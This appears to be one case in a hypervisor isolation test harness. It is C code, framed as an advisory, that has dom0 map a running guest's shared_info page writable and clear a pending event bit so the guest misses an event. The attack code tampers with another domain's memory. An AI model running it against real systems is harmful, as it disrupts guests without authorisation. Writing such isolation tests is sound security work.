/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: the guest's shared page
 *
 * Claim:  dom0 changes pending events and the clock of a running guest.
 * Method: a foreign mapping of the guest frame at which the guest has its
 *         shared page; a pending bit is taken away.
 * Stock:  the page is mapped, writable; the guest misses the event.
 */
#include "../attack.h"

static int clear_bit(void *page)
{
    struct shared_info *shared = page;

    ((volatile uint32_t *)shared->evtchn_pending)[VICTIM_PENDING / 32] = 0;
    return 0;
}

/* 32-bit guest: evtchn_pending is behind 32 vcpu_info structures in both. */
static enum verdict map_shared_info(struct victim *v)
{
    void *page = map_page(v->id, VICTIM_SHARED / PAGE, true);

    if ( !page || attempt(clear_bit, page) )
        return verdict(FAILURE, "no writable mapping");
    unmap_page(page);
    return victim_complains(v, "SHARED");
}
ATTACK(map_shared_info, .needs = SHARED);
